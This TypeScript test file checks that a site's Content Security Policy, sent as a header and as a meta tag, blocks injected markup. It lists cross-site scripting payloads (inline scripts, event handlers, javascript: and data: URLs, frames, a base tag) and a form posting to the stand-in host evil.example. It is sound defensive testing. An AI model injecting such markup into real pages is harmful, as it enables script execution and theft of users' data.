import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { exampleFolder } from '../../support/example-folder.js';
import { exampleSite } from '../../support/example-site.js';
import { onlyPolicyOf } from '../../support/policy.js';

const { newPage, url } = exampleSite();

describe('the content security policy', () => {
  test('is strict: only scripts and styles of the site, nothing inline', async () => {
    const headers = await readFile(path.join(exampleFolder, '_headers'), 'utf8');
    const html = await readFile(path.join(exampleFolder, 'about-us.html'), 'utf8');
    const sent = /Content-Security-Policy: (.*)/.exec(headers)?.[1];
    const [, before, meta] =
      /^(.*?)<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html) ?? [];
    expect(before).not.toMatch(/<(script|link|style)\b.*<meta http-equiv/);
    const carried = [
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self'",
      "img-src 'self'",
      "connect-src 'self'",
      "font-src 'self'",
      expect.stringMatching(/^form-action 'self'/),
      "base-uri 'none'",
    ];
    expect(meta?.split('; ')).toEqual(carried);
    // The worker that reads the full-text index follows only the header.
    expect(sent?.split('; ')).toEqual([
      ...carried.with(1, "script-src 'self' 'wasm-unsafe-eval'"),
      "require-trusted-types-for 'script'",
      "trusted-types herbarium 'allow-duplicates'",
      "frame-ancestors 'none'",
    ]);
  });
});

/** Markup that an attacker would inject into a page. Each item reports when its code has run. */
const injected: Readonly<Record<string, string>> = {
  'an inline script': '<script>worked()</script>',
  'an inline module': '<script type="module">worked()</script>',
  'a handler': '<img src="/_assets/none.png" onerror="worked()">',
  'a drawing with a handler': '<svg onload="worked()"></svg>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a script in its address': '<script src="data:text/javascript,worked()"></script>',
  'a frame': `<iframe srcdoc="<script>parent.worked()</script>"></iframe>`,
  'a frame of an address that is a script': '<iframe src="javascript:parent.worked()"></iframe>',
  'a frame from elsewhere': '<iframe src="https://evil.example/"></iframe>',
  'an object': '<object data="data:text/html,<script>worked()</script>"></object>',
  'an inline style': '<style>h1 { color: rgb(1, 2, 3) !important }</style>',
  'a style attribute': '<h1 id="styled" style="color: rgb(1, 2, 3)">Styled</h1>',
  'a stylesheet from elsewhere':
    '<link rel="stylesheet" href="data:text/css,h1 { color: rgb(1, 2, 3) !important }">',
  'a picture from elsewhere': '<img src="https://evil.example/x.png">',
  'another base': '<base href="https://evil.example/">',
};

describe('markup injected into a built page', () => {
  test.each(['header', 'meta'] as const)(
    'is blocked by the %s alone: scripts, handlers, styles, pictures, frames',
    async (where) => {
      const page = await newPage({ isFresh: true });
      const worked: string[] = [];
      const blocked: string[] = [];
      await page.exposeFunction('noteViolation', (text: string) => blocked.push(text));
      await page.exposeFunction('noteWorked', (name: string) => worked.push(name));
      await page.addInitScript(() => {
        Object.assign(window, { worked: () => Reflect.get(window, 'noteWorked')('a script') });
        addEventListener(
          'securitypolicyviolation',
          (event) => {
            Reflect.get(window, 'noteViolation')(event.effectiveDirective);
          },
          true,
        );
      });
      await onlyPolicyOf(page, where);
      await page.route('https://evil.example/**', (route) => {
        if (route.request().url().endsWith('.png')) worked.push(route.request().url());
        return route.fulfill({ contentType: 'text/javascript', body: 'worked()' });
      });
      // A style of the site may have an address that no rule has checked.
      await page.route('**/*.css', async (route) => {
        const response = await route.fetch();
        const body = `${await response.text()}\n:root { --u: "https://evil.example/y.png" } body { background-image: image-set(var(--u) 1x) }`;
        await route.fulfill({ response, body });
      });
      await page.route('**/about-us', async (route) => {
        const response = await route.fetch();
        const { 'content-security-policy': policy, ...bare } = response.headers();
        const html = await response.text();
        const body = (
          where === 'header' ? html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '') : html
        ).replace(
          '</main>',
          `${Object.values(injected).join('\n')}<a id="lure" href="javascript:worked()">x</a>
          <form id="steal" action="https://evil.example/" method="post"><button>x</button></form></main>`,
        );
        const headers =
          where === 'header' && policy !== undefined ? { ...bare, 'content-security-policy': policy } : bare;
        await route.fulfill({ response, headers, body });
      });
      await page.goto(`${url()}/about-us`);
      await page.locator('#lure').click();
      await page.locator('#steal').evaluate((form: HTMLFormElement) => form.requestSubmit());
      await expect
        .poll(() => [...new Set(blocked)].sort())
        .toEqual([
          'base-uri',
          'form-action',
          'frame-src',
          'img-src',
          'object-src',
          'script-src-attr',
          'script-src-elem',
          'style-src-attr',
          'style-src-elem',
        ]);
      expect(worked).toEqual([]);
      expect(
        await page.locator('h1').evaluateAll((all) => all.map((heading) => getComputedStyle(heading).color)),
      ).not.toContain('rgb(1, 2, 3)');
      expect(page.url()).toBe(`${url()}/about-us`);
      // No text becomes code. With the header, no text becomes markup either, except through the navigator.
      const sinks = await page.evaluate(
        () =>
          new Promise<readonly string[]>((resolve) => {
            const element = document.createElement('div');
            const attempts: Record<string, () => unknown> = {
              markup: () => Object.assign(element, { innerHTML: '<b>x</b>' }),
              document: () => document.write('x'),
              handler: () => element.setAttribute('onclick', 'worked()'),
              code: () => Reflect.construct(Function, ['worked()']),
              address: () => Object.assign(document.createElement('script'), { src: 'x.js' }),
              policy: () => Reflect.get(window, 'trustedTypes').createPolicy('another', {}),
            };
            const succeeds = (attempt: () => unknown) => {
              try {
                attempt();
                return true;
              } catch {
                return false;
              }
            };
            // Delayed, because code that the debugger evaluates may do more than the page.
            setTimeout(() =>
              resolve(Object.keys(attempts).filter((name) => succeeds(attempts[name] ?? (() => {})))),
            );
          }),
      );
      expect(sinks).toEqual(where === 'header' ? [] : ['markup', 'document', 'handler', 'address', 'policy']);
    },
  );
});
